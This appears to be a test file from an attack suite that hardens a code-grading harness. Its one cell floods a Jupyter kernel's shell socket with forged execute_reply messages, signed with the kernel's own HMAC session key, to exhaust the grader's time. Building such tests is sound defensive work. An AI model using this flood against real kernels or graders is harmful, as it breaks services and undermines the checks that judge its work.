"""More replies than anyone can read, each to a question that nobody asked.

Strategy: signed messages of two megabytes on the kernel's own shell socket, until the limit and on.
Surface: the time of the grader, which looks for the one reply among them.
"""

from tests.attacks.arena import Attack

FLOOD = """
import hmac, json, time
kernel = get_ipython().kernel
stream = kernel.shell_stream
socket, session = getattr(stream, "socket", stream), kernel.session
parents = kernel.get_parent_ident("shell") if hasattr(kernel, "get_parent_ident") else (
    kernel._parent_ident["shell"])
head = json.dumps({"msg_id": "x", "msg_type": "execute_reply", "username": "s", "session": "q",
                   "date": "2026-01-01T00:00:00Z", "version": "5.3"}).encode()
body = b"[" + b"[]," * 700_000 + b"[]]"
number, end = 0, time.time() + 60
while time.time() < end:
    number += 1
    parent = json.dumps({"msg_id": f"no{number}"}).encode()
    digest = hmac.new(session.key, digestmod="sha256")
    for part in (head, parent, b"{}", body):
        digest.update(part)
    signed = digest.hexdigest().encode()
    socket.send_multipart([*parents, b"<IDS|MSG>", signed, head, parent, b"{}", body])
"""

ATTACK = Attack(cells=(FLOOD,), answer="right", finding="LIT906", settings={"cell_seconds": 8})
